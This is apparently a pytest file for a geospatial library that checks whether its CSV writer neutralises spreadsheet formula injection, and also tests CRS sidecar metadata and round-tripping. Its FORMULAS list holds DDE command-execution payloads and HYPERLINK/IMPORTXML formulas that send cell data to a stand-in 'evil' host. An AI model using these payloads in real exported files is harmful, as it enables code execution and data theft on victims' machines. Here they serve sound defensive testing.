from __future__ import annotations

import csv
import json

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from table.standins import make_layer

from geocc.errors import MissingCRSError
from geocc.table import read_layer, write_layer
from geocc.table.delimited import disarm_formula

# The signs of OWASP's list, with the detours by which they are known to arrive at the start of a cell.
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil/",A1),"//a")',
    '=DDE("cmd";"/C calc";"a")',
    "  =1+1",
    "\u3000=1+1",
    "'=1+1",
    '"=1+1',
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "a road; =1+1",
    "a road;=1+1",
    "a road,=1+1",
    "a road|=1+1",
    'a road","=1+1',
    'a road"\n=1+1',
    "a;;@x",
    "=",
    "-",
]  # fmt: skip

SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20"


def cells_however_read(text):
    """Every cell that a spreadsheet of any locale, with any idea of quotes, could make of a file."""
    for delimiter in ",;|\t":
        for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
            for row in csv.reader(text.splitlines(), delimiter=delimiter, quoting=quoting):
                yield from row


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_begins_with_a_formula_however_the_file_is_read(tmp_path, formula):
    layer = make_layer(captions=[formula]).assign(**{"=extra": formula})
    path = write_layer(layer, tmp_path / "changes.csv")
    numbers = {repr(value) for value in layer.change_probability}
    for cell in cells_however_read(path.read_text(encoding="utf-8")):
        bare = cell.strip().strip('"').strip()
        assert bare in numbers or not bare.startswith(tuple(SIGNS)), cell


@pytest.mark.parametrize("text", ["north-east", "A - B", "2 + 2", "a@b", "x = y", "no change", "", "it's -5 degrees"])
def test_prose_is_left_alone(text):
    assert disarm_formula(text) == text


@given(st.text(alphabet=SIGNS + "\"';,| \tab", max_size=20))
def test_disarming_only_adds_apostrophes(text):
    disarmed = disarm_formula(text)
    assert disarmed.replace("'", "") == text.replace("'", "")
    assert not disarmed.lstrip(" ").startswith(tuple(SIGNS))


def test_the_round_trip_mode_is_exact(tmp_path):
    layer = make_layer(captions=FORMULAS[:6])
    found = read_layer(write_layer(layer, tmp_path / "changes.csv", csv_safe=False))
    assert found.caption.equals(layer.caption)


def test_a_plain_reader_sees_the_columns(layer, tmp_path):
    table = pd.read_csv(write_layer(layer, tmp_path / "changes.csv"))
    assert list(table.columns) == list(layer.columns)
    assert table.geometry[0].startswith("POLYGON ((500000 4000000")
    assert table.t2[0] == "2020-06-30T17:04:05.123000"


def test_the_sidecar_names_crs_and_model(layer, tmp_path):
    write_layer(layer, tmp_path / "changes.csv")
    sidecar = json.loads((tmp_path / "changes.metadata.json").read_text())
    assert sidecar["crs"]["id"] == {"authority": "EPSG", "code": 26914}
    assert sidecar["geocc"] == layer.attrs["geocc"]
    assert sidecar["csv_safe"] is True


def test_without_its_sidecar_a_csv_lies_nowhere(layer, tmp_path):
    path = write_layer(layer, tmp_path / "changes.csv")
    (tmp_path / "changes.metadata.json").unlink()
    with pytest.raises(MissingCRSError, match="from_wkt"):
        read_layer(path)


def test_metadata_of_another_edition_are_left_out(layer, tmp_path):
    path = write_layer(layer, tmp_path / "changes.csv")
    path.write_text(path.read_text().replace("trees", "shrubs"))
    with pytest.warns(UserWarning, match="has changed since"):
        found = read_layer(path)
    assert found.attrs == {}
    assert found.crs == layer.crs
